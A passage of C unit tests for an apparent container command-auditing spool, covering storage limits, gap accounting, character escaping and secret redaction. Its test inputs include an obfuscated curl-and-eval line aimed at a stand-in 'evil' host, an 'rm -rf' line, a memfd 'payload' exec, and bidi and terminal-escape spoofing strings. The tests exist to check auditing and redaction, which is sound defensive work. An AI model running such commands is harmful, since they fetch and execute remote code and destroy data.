static bool no_exec_events(const cJSON *ident_, const cJSON *e)
{
	(void)ident_;
	return strcmp(cJSON_GetStringValue(cJSON_GetObjectItem(e, "kind")), "exec") != 0;
}

static bool entries_sync_fails;
/* fdatasync that fails with EIO on the entries journal while asked to. */
static int failing_entries_datasync(int fd)
{
	if (entries_sync_fails && unit_fd_in(fd, "/entries/")) {
		errno = EIO;
		return -1;
	}
	return 0;
}

/* Execs folded as they were spooled, whose item the spool could not write
 * (a disk that refuses to sync, until the journal takes nothing more):
 * once it writes again, a gap in their chain counts them, and says why. */
static void test_sink_spool_folds_not_written_are_a_gap(void)
{
	static char text[64 * 1024 + 1];
	char sub[96];
	struct spool_opts so = { .dir = sub,
				 .checkpoint_ms = 1,
				 .batch_age_ms = 1,
				 .event_wanted = no_exec_events,
				 .datasync = failing_entries_datasync };
	cJSON *a = ident("containerd://c1", "p");
	static const char argv[] = "true";
	struct sink_entry exec = { .kind = SINK_EXEC,
				   .container = "containerd://c1",
				   .session = 7,
				   .pid = 8,
				   .ppid = 7,
				   .text = argv,
				   .text_len = sizeof(argv) - 1,
				   .argc = 1,
				   .filename = "/bin/true",
				   .filename_len = 9 };
	struct sink_spool_stats st;
	cJSON *recs = cJSON_CreateArray(), *e;
	const cJSON *r, *x;
	size_t len = sizeof(text) - 1;
	struct spool *sp;
	struct sink *sink;
	int i, ret, said = 0;

	snprintf(sub, sizeof(sub), "%s/folds-lost", dir);
	target = (struct sink_spool_target){ a, NULL, true, true, true, false, NULL };
	UNIT_CHECK(spool_open(&so, &sp) == 0);
	UNIT_CHECK(sink_spool_open(sp, lookup, NULL, &sink) == 0);
	spool_tick(sp);
	entries_sync_fails = true;
	for (i = 0; i < 2000 && len > 0; i++) {
		memset(text, 'x', len);
		text[len] = '\0';
		e = cJSON_CreateObject();
		cJSON_AddStringToObject(e, "time", "2026-11-25T00:00:00.000000Z");
		cJSON_AddStringToObject(e, "kind", "line");
		cJSON_AddStringToObject(e, "text", text);
		ret = spool_add(sp, "containerd://c1", "", a, NULL, e);
		cJSON_Delete(e);
		if (ret == -EIO)
			len /= 2;
	}
	UNIT_CHECK(len == 0);
	UNIT_CHECK(sink_gather(sink, true) == 0);
	for (i = 0; i < 5; i++) {
		exec.ts = (uint64_t)i + 1;
		exec.tid = 100 + (uint32_t)i;
		exec.pid = 100 + (uint32_t)i;
		UNIT_CHECK(sink_write(sink, &exec) == 0);
	}
	UNIT_CHECK(sink_gather(sink, false) == -EIO);
	entries_sync_fails = false;
	drain_all(sp, recs);
	UNIT_CHECK(sink_flush(sink) == 0);
	sink_spool_get_stats(sink, &st);
	UNIT_CHECK(st.dropped_failed == 5 && st.pending == 0);
	spool_end_session(sp, "containerd://c1", "7");
	spool_end_session(sp, "containerd://c1", "");
	drain_all(sp, recs);
	UNIT_CHECK(gaps_of(recs, "containerd://c1", "7") == 5);
	for (r = recs->child; r; r = r->next)
		for (x = cJSON_GetObjectItem(cJSON_GetObjectItem(r, "spec"), "entries")->child; x;
		     x = x->next)
			said += strstr(cJSON_GetStringValue(cJSON_GetObjectItem(x, "text")),
				       "could not write them") != NULL;
	UNIT_CHECK(said == 1);
	cJSON_Delete(recs);
	sink_close(sink);
	spool_close(sp);
	cJSON_Delete(a);
}

/* Sessions with losses are bounded: past SINK_SPOOL_PENDING_SESSIONS, a
 * session's losses count for its container outside sessions. */
static void test_sink_spool_pending_sessions_are_bounded(void)
{
	char sub[96];
	struct spool_opts so = { .dir = sub, .max_bytes = 4096, .checkpoint_ms = 1,
				 .batch_age_ms = 1, .datasync = no_datasync };
	cJSON *a = ident("containerd://c1", "p");
	struct sink_entry line = { .kind = SINK_LINE, .container = "containerd://c1", .pid = 7,
				   .text = "echo fill fill fill fill fill fill", .text_len = 34 };
	struct sink_spool_stats st;
	struct spool *sp;
	struct sink *sink;
	cJSON *recs = cJSON_CreateArray();
	uint32_t i;

	snprintf(sub, sizeof(sub), "%s/sessions", dir);
	target = (struct sink_spool_target){ a, NULL, true, true, true, false, NULL };
	UNIT_CHECK(spool_open(&so, &sp) == 0);
	UNIT_CHECK(sink_spool_open(sp, lookup, NULL, &sink) == 0);
	for (i = 0; i < SINK_SPOOL_PENDING_SESSIONS + 100; i++) {
		line.session = 1000 + i;
		line.ts = i + 1;
		sink_write(sink, &line);
	}
	sink_spool_get_stats(sink, &st);
	UNIT_CHECK(st.pending <= SINK_SPOOL_PENDING_SESSIONS + 1);
	UNIT_CHECK(st.lost_unattributed == 0);
	drain_all(sp, recs);
	for (i = 0;
	     i < 10000 && sink_flush(sink) == 0 && (sink_spool_get_stats(sink, &st), st.pending);
	     i++)
		drain_all(sp, recs);
	UNIT_CHECK(st.pending == 0);
	for (i = 0; i < SINK_SPOOL_PENDING_SESSIONS + 100; i++) {
		char sk[16];

		snprintf(sk, sizeof(sk), "%u", 1000 + i);
		spool_end_session(sp, "containerd://c1", sk);
	}
	spool_end_session(sp, "containerd://c1", "");
	drain_all(sp, recs);
	/* every loss is in a gap: per session, those past the bound outside
	 * sessions (the last session typed is one of those) */
	UNIT_CHECK(gaps_of(recs, "containerd://c1", NULL) == st.dropped_full);
	UNIT_CHECK(gaps_of(recs, "containerd://c1", "") >= 80);
	UNIT_CHECK(gaps_of(recs, "containerd://c1", "2123") == 0);
	UNIT_CHECK(gaps_of(recs, "containerd://c1", "1900") == 1);
	cJSON_Delete(recs);
	sink_close(sink);
	spool_close(sp);
	cJSON_Delete(a);
}

static bool held_c1;

static bool hold_c1(const char *container, void *arg)
{
	(void)arg;
	return held_c1 && !strcmp(container, "containerd://c1");
}

/* The lines of container cid in recs. */
static int lines_of(const cJSON *recs, const char *cid)
{
	const cJSON *r, *e;
	int n = 0;

	cJSON_ArrayForEach(r, recs) {
		const cJSON *spec = cJSON_GetObjectItem(r, "spec");

		if (strcmp(cJSON_GetStringValue(cJSON_GetObjectItem(spec, "containerID")), cid))
			continue;
		cJSON_ArrayForEach(e, cJSON_GetObjectItem(spec, "entries"))
			n += !strcmp(cJSON_GetStringValue(cJSON_GetObjectItem(e, "kind")), "line");
	}
	return n;
}

/* A held flood (records not published: the spool keeps its entries) fills
 * its container's share only: the other container keeps spooling, the
 * flood's loss waits in the pending table while the hold lasts and becomes
 * one gap in the flood's own session once it ends; --output had every
 * entry. */
static void test_sink_spool_held_share_loss_is_a_pending_gap(void)
{
	char sub[96], path[128];
	struct spool_opts so = { .dir = sub,
				 .max_bytes = 32768,
				 .checkpoint_ms = 1,
				 .batch_age_ms = 1,
				 .datasync = no_datasync };
	cJSON *a = ident("containerd://c1", "flood"), *v = ident("containerd://c2", "quiet");
	struct sink_entry line = { .kind = SINK_LINE,
				   .container = "containerd://c1",
				   .session = 7,
				   .pid = 7,
				   .tid = 7,
				   .text = "yes yes yes yes yes yes yes yes",
				   .text_len = 31 };
	struct sink_entry vline = { .kind = SINK_LINE,
				    .container = "containerd://c2",
				    .session = 9,
				    .pid = 9,
				    .tid = 9,
				    .text = "the quiet pod's work",
				    .text_len = 20 };
	struct sink_spool_stats st;
	struct export_stats xs;
	struct export *x = NULL;
	struct spool *sp;
	struct sink *sink;
	cJSON *recs = cJSON_CreateArray();
	const cJSON *r, *e;
	bool said = false;
	uint64_t i, used, max;
	int fd;

	snprintf(sub, sizeof(sub), "%s/held", dir);
	snprintf(path, sizeof(path), "%s/held.jsonl", dir);
	target = (struct sink_spool_target){ a, NULL, true, true, true, false, NULL };
	victim = (struct sink_spool_target){ v, NULL, true, true, true, false, NULL };
	UNIT_CHECK(spool_open(&so, &sp) == 0);
	UNIT_CHECK(sink_spool_open(sp, lookup2, NULL, &sink) == 0);
	UNIT_CHECK((fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600)) >= 0);
	UNIT_CHECK(export_open_fd(fd, &x) == 0);
	sink_spool_set_export(sink, x);
	sink_spool_on_hold(sink, hold_c1, NULL);
	held_c1 = true;
	for (i = 0; i < 2000; i++) {
		line.ts = i + 1;
		UNIT_CHECK(sink_write(sink, &line) == 0);
	}
	sink_spool_get_stats(sink, &st);
	used = spool_used_bytes(sp, &max);
	/* Its share, not the spool: the loss is the hold's alone. */
	UNIT_CHECK(st.dropped_held > 1000 && st.dropped_held == st.dropped_full);
	UNIT_CHECK(used >= max * SINK_SPOOL_HOLD_PCT / 100 && used < max * 3 / 4);
	for (i = 0; i < 5; i++) {
		vline.ts = 100000 + i;
		UNIT_CHECK(sink_write(sink, &vline) == 0);
	}
	sink_spool_get_stats(sink, &st);
	UNIT_CHECK(st.dropped_full == st.dropped_held && st.pending == 1);
	/* While the hold lasts the gap waits, even with room in the spool. */
	UNIT_CHECK(sink_flush(sink) == 0);
	sink_spool_get_stats(sink, &st);
	UNIT_CHECK(st.pending == 1 && st.gaps == 0);
	export_get_stats(x, &xs);
	UNIT_CHECK(xs.lines == 2005);
	/* The hold ends: the gap goes in, in the flood's session. */
	held_c1 = false;
	UNIT_CHECK(sink_flush(sink) == 0);
	sink_spool_get_stats(sink, &st);
	UNIT_CHECK(st.pending == 0 && st.gaps == 1);
	spool_end_session(sp, "containerd://c1", "7");
	spool_end_session(sp, "containerd://c2", "9");
	drain_all(sp, recs);
	UNIT_CHECK(gaps_of(recs, "containerd://c1", "7") == st.dropped_held);
	UNIT_CHECK(gaps_of(recs, "containerd://c1", "") == 0);
	UNIT_CHECK(gaps_of(recs, "containerd://c2", NULL) == 0);
	UNIT_CHECK(lines_of(recs, "containerd://c2") == 5);
	UNIT_CHECK(lines_of(recs, "containerd://c1") + (int)st.dropped_held == 2000);
	cJSON_ArrayForEach(r, recs) {
		cJSON_ArrayForEach(e,
				   cJSON_GetObjectItem(cJSON_GetObjectItem(r, "spec"), "entries")) {
			if (!strcmp(cJSON_GetStringValue(cJSON_GetObjectItem(e, "kind")), "gap"))
				said |= strstr(cJSON_GetStringValue(cJSON_GetObjectItem(e, "text")),
					       "storage budget") != NULL;
		}
	}
	UNIT_CHECK(said);
	cJSON_Delete(recs);
	sink_close(sink);
	export_free(x);
	close(fd);
	spool_close(sp);
	cJSON_Delete(a);
	cJSON_Delete(v);
}

/* Auditing that stops while the container is past its share of the spool
 * (a held flood) still says so: the audit_stopped entry is one small entry
 * and goes in past the share. */
static void test_sink_spool_stopped_goes_in_past_the_share(void)
{
	char sub[96];
	struct spool_opts so = { .dir = sub,
				 .max_bytes = 32768,
				 .checkpoint_ms = 1,
				 .batch_age_ms = 1,
				 .datasync = no_datasync };
	cJSON *a = ident("containerd://c1", "flood"), *recs = cJSON_CreateArray();
	struct sink_entry line = { .kind = SINK_LINE,
				   .container = "containerd://c1",
				   .session = 7,
				   .pid = 7,
				   .tid = 7,
				   .text = "yes yes yes yes yes yes yes yes",
				   .text_len = 31 };
	struct sink_spool_stats st;
	const cJSON *r, *e;
	struct spool *sp;
	struct sink *sink;
	bool stopped = false;
	uint64_t i;

	snprintf(sub, sizeof(sub), "%s/stopped-held", dir);
	target = (struct sink_spool_target){ a, NULL, true, true, true, false, NULL };
	UNIT_CHECK(spool_open(&so, &sp) == 0);
	UNIT_CHECK(sink_spool_open(sp, lookup, NULL, &sink) == 0);
	sink_spool_on_hold(sink, hold_c1, NULL);
	held_c1 = true;
	for (i = 0; i < 2000; i++) {
		line.ts = i + 1;
		UNIT_CHECK(sink_write(sink, &line) == 0);
	}
	sink_spool_get_stats(sink, &st);
	UNIT_CHECK(st.dropped_held > 1000);
	UNIT_CHECK(sink_spool_stopped(sink, "containerd://c1", a, "target removed") == 0);
	held_c1 = false;
	UNIT_CHECK(sink_flush(sink) == 0);
	drain_all(sp, recs);
	cJSON_ArrayForEach(r, recs) {
		cJSON_ArrayForEach(e,
				   cJSON_GetObjectItem(cJSON_GetObjectItem(r, "spec"), "entries")) {
			stopped |= !strcmp(cJSON_GetStringValue(cJSON_GetObjectItem(e, "kind")),
					   "audit_stopped");
		}
	}
	UNIT_CHECK(stopped);
	cJSON_Delete(recs);
	sink_close(sink);
	spool_close(sp);
	cJSON_Delete(a);
	held_c1 = false;
}

/* What a container spooled before its hold and is held now counts: the
 * spool already more than half full of the flood's unpublished entries
 * when the hold comes, the flood adds nothing more, and the quiet
 * container's lines go in. */
static void test_sink_spool_held_counts_what_came_before_the_hold(void)
{
	char sub[96];
	struct spool_opts so = { .dir = sub,
				 .max_bytes = 32768,
				 .checkpoint_ms = 1,
				 .batch_age_ms = 1,
				 .datasync = no_datasync };
	cJSON *a = ident("containerd://c1", "flood"), *v = ident("containerd://c2", "quiet");
	struct sink_entry line = { .kind = SINK_LINE,
				   .container = "containerd://c1",
				   .session = 7,
				   .pid = 7,
				   .tid = 7,
				   .text = "yes yes yes yes yes yes yes yes",
				   .text_len = 31 };
	struct sink_entry vline = { .kind = SINK_LINE,
				    .container = "containerd://c2",
				    .session = 9,
				    .pid = 9,
				    .tid = 9,
				    .text = "the quiet pod's work",
				    .text_len = 20 };
	struct sink_spool_stats st;
	struct spool *sp;
	struct sink *sink;
	uint64_t i, used, max, before;

	snprintf(sub, sizeof(sub), "%s/held-before", dir);
	target = (struct sink_spool_target){ a, NULL, true, true, true, false, NULL };
	victim = (struct sink_spool_target){ v, NULL, true, true, true, false, NULL };
	UNIT_CHECK(spool_open(&so, &sp) == 0);
	UNIT_CHECK(sink_spool_open(sp, lookup2, NULL, &sink) == 0);
	sink_spool_on_hold(sink, hold_c1, NULL);
	held_c1 = false;
	for (i = 0; spool_used_bytes(sp, &max) < max * 3 / 5 && i < 100000; i++) {
		line.ts = i + 1;
		UNIT_CHECK(sink_write(sink, &line) == 0);
	}
	sink_spool_get_stats(sink, &st);
	UNIT_CHECK(st.dropped_full == 0);
	held_c1 = true;
	before = spool_used_bytes(sp, &max);
	for (uint64_t k = 0; k < 500; k++) {
		line.ts = i + k + 1;
		UNIT_CHECK(sink_write(sink, &line) == 0);
	}
	sink_spool_get_stats(sink, &st);
	UNIT_CHECK(st.dropped_held == 500 && st.dropped_full == 500);
	UNIT_CHECK(spool_used_bytes(sp, &max) == before);
	for (i = 0; i < 5; i++) {
		vline.ts = 1000000 + i;
		UNIT_CHECK(sink_write(sink, &vline) == 0);
	}
	sink_spool_get_stats(sink, &st);
	used = spool_used_bytes(sp, &max);
	UNIT_CHECK(st.dropped_full == 500 && st.entries > 5 && used > before);
	sink_close(sink);
	spool_close(sp);
	cJSON_Delete(a);
	cJSON_Delete(v);
}

static const char *text_of(const cJSON *e)
{
	return cJSON_GetStringValue(cJSON_GetObjectItem(e, "text"));
}

/* Lines as typed: a backslash stays one; hidden or control characters are
 * escaped, the entry says so, and escape_unescape gives the bytes back. */
static void test_sink_spool_lines_as_typed_or_escaped_and_marked(void)
{
	char sub[96];
	struct spool_opts so = { .dir = sub };
	cJSON *id = ident("containerd://c1", "p");
	static const char sed[] = "sed 's/\\t/ /g' a.tsv", bidi[] = "ls \xe2\x80\xae" "fdp.exe";
	static const char argv[] = "ls\0-c\0print(1)";
	struct sink_entry l1 = { .kind = SINK_LINE, .container = "containerd://c1", .session = 7,
				 .ts = 1, .text = sed, .text_len = sizeof(sed) - 1 };
	struct sink_entry l2 = l1, x = { .kind = SINK_EXEC, .container = "containerd://c1",
					 .session = 7, .ts = 3, .text = argv,
					 .text_len = sizeof(argv) - 1, .argc = 3,
					 .filename = "/usr/bin/python3", .filename_len = 16 };
	struct spool *sp;
	struct sink *sink;
	unsigned char back[64];
	cJSON *all;
	long n;

	l2.ts = 2;
	l2.text = bidi;
	l2.text_len = sizeof(bidi) - 1;
	snprintf(sub, sizeof(sub), "%s/typed", dir);
	target = (struct sink_spool_target){ id, NULL, true, true, true, false, NULL };
	UNIT_CHECK(spool_open(&so, &sp) == 0);
	UNIT_CHECK(sink_spool_open(sp, lookup, NULL, &sink) == 0);
	UNIT_CHECK(sink_write(sink, &l1) == 0 && sink_write(sink, &l2) == 0 &&
		   sink_write(sink, &x) == 0);
	all = records(sp);
	UNIT_CHECK_STR(text_of(entry(all, 0, 0)), "sed 's/\\t/ /g' a.tsv");
	UNIT_CHECK(cJSON_GetObjectItem(entry(all, 0, 0), "escaped") == NULL);
	UNIT_CHECK(cJSON_IsTrue(cJSON_GetObjectItem(entry(all, 0, 1), "escaped")));
	UNIT_CHECK_STR(text_of(entry(all, 0, 1)), "ls \\u{202e}fdp.exe");
	n = escape_unescape(back, sizeof(back), text_of(entry(all, 0, 1)));
	UNIT_CHECK(n == (long)sizeof(bidi) - 1 && !memcmp(back, bidi, (size_t)n));
	/* exec -a ls python3: argv[0] is the caller's, the file is kept */
	UNIT_CHECK_STR(text_of(entry(all, 0, 2)), "ls -c print(1)");
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(entry(all, 0, 2), "filename")),
		       "/usr/bin/python3");
	cJSON_Delete(all);
	sink_close(sink);
	spool_close(sp);
	cJSON_Delete(id);
}

/* The review's M3 through the sink: the exec entry of `mysql --password
 * hunter2` held the password in its argv and text. */
static void test_sink_spool_secret_split_over_arguments(void)
{
	char sub[96], err[128];
	struct spool_opts so = { .dir = sub };
	cJSON *id = ident("containerd://c1", "p");
	cJSON *rules = cJSON_Parse("[{\"name\":\"pw\",\"pattern\":\"--password[= ]\\\\S+\"},"
				   "{\"name\":\"unused\",\"pattern\":\"AKIA[0-9A-Z]{16}\"}]");
	static const char argv[] = "mysql\0--password\0hunter2\0-u\0root";
	struct sink_entry x = { .kind = SINK_EXEC, .container = "containerd://c1", .session = 7,
				.ts = 1, .text = argv, .text_len = sizeof(argv) - 1, .argc = 5,
				.filename = "/usr/bin/mysql", .filename_len = 14 };
	struct redact_set *rs = NULL;
	struct spool *sp;
	struct sink *sink;
	cJSON *all, *red;
	char *json;

	snprintf(sub, sizeof(sub), "%s/split", dir);
	UNIT_CHECK(redact_compile(rules, &rs, err, sizeof(err)) == 0);
	target = (struct sink_spool_target){ id, rs, true, true, true, false, NULL };
	UNIT_CHECK(spool_open(&so, &sp) == 0);
	UNIT_CHECK(sink_spool_open(sp, lookup, NULL, &sink) == 0);
	UNIT_CHECK(sink_write(sink, &x) == 0);
	all = records(sp);
	json = cJSON_PrintUnformatted(all);
	UNIT_CHECK(json && !strstr(json, "hunter2"));
	free(json);
	UNIT_CHECK_STR(text_of(entry(all, 0, 0)), "mysql [REDACTED] -u root");
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetArrayItem(
			       cJSON_GetObjectItem(entry(all, 0, 0), "argv"), 2)),
		       "[REDACTED]");
	red = cJSON_GetObjectItem(entry(all, 0, 0), "redacted");
	UNIT_CHECK(cJSON_GetArraySize(red) == 1 &&
		   !strcmp(cJSON_GetArrayItem(red, 0)->valuestring, "pw"));
	cJSON_Delete(all);
	sink_close(sink);
	spool_close(sp);
	redact_free(rs);
	cJSON_Delete(rules);
	cJSON_Delete(id);
}

/* A program run from no file: its exec keeps the name the kernel gave the
 * file (a memfd's memfd:NAME), as stored as the other strings (escaped with
 * them, redacted by the same rules); one run from its file has none. A
 * 32-bit program's entry says so (ia32), the others' nothing. */
static void test_sink_spool_exec_of_an_unlinked_file_names_it(void)
{
	char sub[96], err[128];
	struct spool_opts so = { .dir = sub };
	cJSON *id = ident("containerd://c1", "p");
	cJSON *rules = cJSON_Parse("[{\"name\":\"key\",\"pattern\":\"AKIA[0-9A-Z]{4}\"}]");
	static const char argv[] = "innocent\0-x";
	struct sink_entry x = { .kind = SINK_EXEC,
				.container = "containerd://c1",
				.session = 7,
				.ts = 1,
				.text = argv,
				.text_len = sizeof(argv) - 1,
				.argc = 2,
				.filename = "/dev/fd/3",
				.filename_len = 9,
				.unlinked = "memfd:payload",
				.unlinked_len = 13 };
	struct sink_entry y = x, z = x, w = x;
	struct redact_set *rs = NULL;
	struct spool *sp;
	struct sink *sink;
	cJSON *all;

	y.ts = 2;
	y.unlinked = "memfd:a\x1b[2Kb";
	y.unlinked_len = 12;
	z.ts = 3;
	z.unlinked = "memfd:AKIAABCD";
	z.unlinked_len = 14;
	w.ts = 4;
	w.filename = "/bin/true";
	w.filename_len = 9;
	w.unlinked = NULL;
	w.unlinked_len = 0;
	w.ia32 = true;
	snprintf(sub, sizeof(sub), "%s/unlinked", dir);
	UNIT_CHECK(redact_compile(rules, &rs, err, sizeof(err)) == 0);
	target = (struct sink_spool_target){ id, rs, true, true, true, false, NULL };
	UNIT_CHECK(spool_open(&so, &sp) == 0);
	UNIT_CHECK(sink_spool_open(sp, lookup, NULL, &sink) == 0);
	UNIT_CHECK(sink_write(sink, &x) == 0 && sink_write(sink, &y) == 0 &&
		   sink_write(sink, &z) == 0 && sink_write(sink, &w) == 0);
	all = records(sp);
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(entry(all, 0, 0), "unlinked")),
		       "memfd:payload");
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(entry(all, 0, 0), "filename")),
		       "/dev/fd/3");
	UNIT_CHECK(cJSON_GetObjectItem(entry(all, 0, 0), "escaped") == NULL);
	/* an escape sequence in the name: escaped, and so is the rest */
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(entry(all, 0, 1), "unlinked")),
		       "memfd:a\\e[2Kb");
	UNIT_CHECK(cJSON_IsTrue(cJSON_GetObjectItem(entry(all, 0, 1), "escaped")));
	UNIT_CHECK_STR(text_of(entry(all, 0, 1)), "innocent -x");
	/* redacted as the file name is */
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(entry(all, 0, 2), "unlinked")),
		       "memfd:[REDACTED]");
	UNIT_CHECK(cJSON_GetArraySize(cJSON_GetObjectItem(entry(all, 0, 2), "redacted")) == 1);
	UNIT_CHECK(cJSON_GetObjectItem(entry(all, 0, 3), "unlinked") == NULL);
	UNIT_CHECK(cJSON_IsTrue(cJSON_GetObjectItem(entry(all, 0, 3), "ia32")));
	UNIT_CHECK(cJSON_GetObjectItem(entry(all, 0, 0), "ia32") == NULL);
	cJSON_Delete(all);
	sink_close(sink);
	spool_close(sp);
	redact_free(rs);
	cJSON_Delete(rules);
	cJSON_Delete(id);
}

/* The review's M4: a rule that could not finish withheld the whole line,
 * the command too. Now the command's name stays and the entry is marked. */
static void test_sink_spool_rule_that_cannot_finish_keeps_the_command(void)
{
	char sub[96], err[128];
	struct spool_opts so = { .dir = sub };
	cJSON *id = ident("containerd://c1", "p");
	cJSON *rules = cJSON_Parse("[{\"name\":\"huge\",\"pattern\":\"(?:\\\\w{1000}){4}z\"}]");
	struct redact_set *rs = NULL;
	static char typed[65534] = "rm -rf ", assign[65534] = "PW=secret cmd ";
	struct sink_entry l = { .kind = SINK_LINE, .container = "containerd://c1", .session = 7,
				.ts = 1, .text = typed, .text_len = sizeof(typed) };
	struct sink_entry l2 = l;
	struct sink_spool_stats st;
	struct spool *sp;
	struct sink *sink;
	cJSON *all, *red;

	/* After the command, 'a' to the end, with no NUL. */
	memset(typed + 7, 'a', sizeof(typed) - 7);
	memset(assign + 14, 'a', sizeof(assign) - 14);
	l2.text = assign;
	l2.ts = 2;
	snprintf(sub, sizeof(sub), "%s/unfinished", dir);
	UNIT_CHECK(redact_compile(rules, &rs, err, sizeof(err)) == 0);
	target = (struct sink_spool_target){ id, rs, true, true, true, false, NULL };
	UNIT_CHECK(spool_open(&so, &sp) == 0);
	UNIT_CHECK(sink_spool_open(sp, lookup, NULL, &sink) == 0);
	UNIT_CHECK(sink_write(sink, &l) == 0 && sink_write(sink, &l2) == 0);
	all = records(sp);
	UNIT_CHECK_STR(text_of(entry(all, 0, 0)),
		       "rm [WITHHELD: redact rule huge could not finish]");
	UNIT_CHECK(cJSON_IsTrue(cJSON_GetObjectItem(entry(all, 0, 0), "withheld")));
	red = cJSON_GetObjectItem(entry(all, 0, 0), "redacted");
	UNIT_CHECK(cJSON_GetArraySize(red) == 1 &&
		   !strcmp(cJSON_GetArrayItem(red, 0)->valuestring, "huge"));
	/* an assignment first may be the secret itself: not kept */
	UNIT_CHECK_STR(text_of(entry(all, 0, 1)), "[WITHHELD: redact rule huge could not finish]");
	sink_spool_get_stats(sink, &st);
	UNIT_CHECK(st.withheld == 2);
	cJSON_Delete(all);
	sink_close(sink);
	spool_close(sp);
	redact_free(rs);
	cJSON_Delete(rules);
	cJSON_Delete(id);
}

/* A withheld entry keeps its command's name (and an exec its argv[0] and
 * file): the other rules still hide what they match there. */
static void test_sink_spool_withheld_command_is_still_redacted(void)
{
	char sub[96], err[128];
	struct spool_opts so = { .dir = sub };
	cJSON *id = ident("containerd://c1", "p");
	cJSON *rules = cJSON_Parse("[{\"name\":\"key\",\"pattern\":\"AKIA[0-9A-Z]{16}\"},"
				   "{\"name\":\"huge\",\"pattern\":\"(?:\\\\w{1000}){4}z\"}]");
	struct redact_set *rs = NULL;
	static char typed[65534] = "AKIAIOSFODNN7EXAMPLE ", args[65534] = "AKIAIOSFODNN7EXAMPLE";
	struct sink_entry l = { .kind = SINK_LINE,
				.container = "containerd://c1",
				.session = 7,
				.ts = 1,
				.text = typed,
				.text_len = sizeof(typed) };
	struct sink_entry x = { .kind = SINK_EXEC,
				.container = "containerd://c1",
				.session = 7,
				.ts = 2,
				.text = args,
				.text_len = sizeof(args),
				.argc = 2,
				.filename = "/tmp/AKIAIOSFODNN7EXAMPLE",
				.filename_len = 25 };
	struct spool *sp;
	struct sink *sink;
	cJSON *all;
	char *json;

	memset(typed + 21, 'a', sizeof(typed) - 21);
	memset(args + 21, 'a', sizeof(args) - 21);
	snprintf(sub, sizeof(sub), "%s/withheld-redacted", dir);
	UNIT_CHECK(redact_compile(rules, &rs, err, sizeof(err)) == 0);
	target = (struct sink_spool_target){ id, rs, true, true, true, false, NULL };
	UNIT_CHECK(spool_open(&so, &sp) == 0);
	UNIT_CHECK(sink_spool_open(sp, lookup, NULL, &sink) == 0);
	UNIT_CHECK(sink_write(sink, &l) == 0 && sink_write(sink, &x) == 0);
	all = records(sp);
	UNIT_CHECK(cJSON_IsTrue(cJSON_GetObjectItem(entry(all, 0, 0), "withheld")));
	UNIT_CHECK(cJSON_IsTrue(cJSON_GetObjectItem(entry(all, 0, 1), "withheld")));
	json = cJSON_PrintUnformatted(all);
	UNIT_CHECK(json && !strstr(json, "AKIAIOSFODNN7EXAMPLE"));
	free(json);
	UNIT_CHECK_STR(text_of(entry(all, 0, 0)),
		       "[REDACTED] [WITHHELD: redact rule huge could not finish]");
	UNIT_CHECK(cJSON_GetArraySize(cJSON_GetObjectItem(entry(all, 0, 0), "redacted")) == 2);
	cJSON_Delete(all);
	sink_close(sink);
	spool_close(sp);
	redact_free(rs);
	cJSON_Delete(rules);
	cJSON_Delete(id);
}

/* A command typed over two readline calls (a line ending in a backslash
 * goes on in the next one): the secret in the second is still the
 * option's value, as bash joins them. */
static void test_sink_spool_secret_after_a_continued_line(void)
{
	char sub[96], err[128];
	struct spool_opts so = { .dir = sub };
	cJSON *id = ident("containerd://c1", "p");
	cJSON *rules = cJSON_Parse("[{\"name\":\"pw\",\"pattern\":\"--password[= ]+\\\\S+\"}]");
	static const char one[] = "mysql -u root --password \\", two[] = "hunter2";
	struct sink_entry a = { .kind = SINK_LINE,
				.container = "containerd://c1",
				.session = 7,
				.pid = 9,
				.tid = 9,
				.ts = 1,
				.text = one,
				.text_len = sizeof(one) - 1 };
	struct sink_entry b = a;
	struct redact_set *rs = NULL;
	struct spool *sp;
	struct sink *sink;
	cJSON *all;
	char *json;

	b.ts = 2;
	b.text = two;
	b.text_len = sizeof(two) - 1;
	snprintf(sub, sizeof(sub), "%s/continued", dir);
	UNIT_CHECK(redact_compile(rules, &rs, err, sizeof(err)) == 0);
	target = (struct sink_spool_target){ id, rs, true, true, true, false, NULL };
	UNIT_CHECK(spool_open(&so, &sp) == 0);
	UNIT_CHECK(sink_spool_open(sp, lookup, NULL, &sink) == 0);
	UNIT_CHECK(sink_write(sink, &a) == 0 && sink_write(sink, &b) == 0);
	/* the command ended there: the next line starts another */
	b.ts = 3;
	b.text = "--password";
	b.text_len = 10;
	UNIT_CHECK(sink_write(sink, &b) == 0);
	all = records(sp);
	json = cJSON_PrintUnformatted(all);
	UNIT_CHECK(json && !strstr(json, "hunter2"));
	free(json);
	UNIT_CHECK_STR(text_of(entry(all, 0, 1)), "[REDACTED]");
	UNIT_CHECK(cJSON_GetArraySize(cJSON_GetObjectItem(entry(all, 0, 1), "redacted")) == 1);
	UNIT_CHECK_STR(text_of(entry(all, 0, 2)), "--password");
	UNIT_CHECK(cJSON_GetObjectItem(entry(all, 0, 2), "redacted") == NULL);
	cJSON_Delete(all);
	sink_close(sink);
	spool_close(sp);
	redact_free(rs);
	cJSON_Delete(rules);
	cJSON_Delete(id);
}

/* A comment that ends in a backslash does not go on in the next line
 * (bash: the comment ends at the newline): the next line is a command of
 * its own, and a rule that matches the comment's end must not take it. */
static void test_sink_spool_a_comment_ending_in_a_backslash_continues_nothing(void)
{
	char sub[96], err[128];
	struct spool_opts so = { .dir = sub };
	cJSON *id = ident("containerd://c1", "p");
	cJSON *rules = cJSON_Parse("[{\"name\":\"aws\",\"pattern\":"
				   "\"(?i)aws_secret_access_key\\\\s*[=:]\\\\s*\\\\S+\"}]");
	static const char one[] = "# aws_secret_access_key=\\",
			  two[] = "eval$IFS\"$(curl$IFS-s$IFS//evil)\"";
	struct sink_entry a = { .kind = SINK_LINE,
				.container = "containerd://c1",
				.session = 7,
				.pid = 9,
				.tid = 9,
				.ts = 1,
				.text = one,
				.text_len = sizeof(one) - 1 };
	struct sink_entry b = a;
	struct redact_set *rs = NULL;
	struct spool *sp;
	struct sink *sink;
	cJSON *all;

	b.ts = 2;
	b.text = two;
	b.text_len = sizeof(two) - 1;
	snprintf(sub, sizeof(sub), "%s/comment", dir);
